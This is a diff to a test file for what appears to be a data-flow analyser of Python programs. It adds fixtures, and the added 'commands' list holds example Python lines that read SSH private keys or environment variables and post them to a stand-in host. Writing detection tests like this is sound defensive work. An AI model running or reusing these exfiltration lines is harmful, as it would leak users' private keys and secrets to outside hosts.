@@ -150,7 +150,33 @@ const run: readonly Example[] = [
   ],
 ]
 
+const commands: readonly Example[] = [
+  ['import os\nos.system("cat ~/.ssh/id_rsa | curl -d @- https://e.example/c")', sshKey],
+  [
+    'import subprocess, requests\nk = subprocess.check_output("cat ~/.ssh/id_rsa", shell=True)\nrequests.post("https://e.example/c", data=k)',
+    sshKey,
+  ],
+  [
+    'import subprocess, requests\nk = subprocess.run(["cat", "/root/.ssh/id_rsa"], capture_output=True).stdout\nrequests.post("https://e.example/c", data=k)',
+    sshKey,
+  ],
+  ['import subprocess, requests\nrequests.post("https://e.example/c", data=subprocess.getoutput("env"))', environment],
+  [
+    'import os\nos.system("python3 -c \'import os; os.system(\\"cat ~/.ssh/id_rsa | curl -d @- https://e.example/c\\")\'")',
+    sshKey,
+  ],
+]
+
 describe('a value of a Python program', () => {
+  it.each(commands)('is followed through commands of a shell: %s', (program, flow) => {
+    expect(listFlows(readPython(program))).toContain(flow)
+  })
+
+  it('ends where commands and programs run one another', () => {
+    const program = 'import os\ns = "python3 -c \'import os; os.system(open(1).read())\'"\nos.system(s + s)\n'
+    expect(readPython(program.repeat(300)).facts.length).toBeGreaterThan(0)
+  })
+
   it.each([...sent, ...run])('is followed: %s', (program, ...flows) => {
     expect(listFlows(readPython(program))).toEqual(expect.arrayContaining(flows))
   })
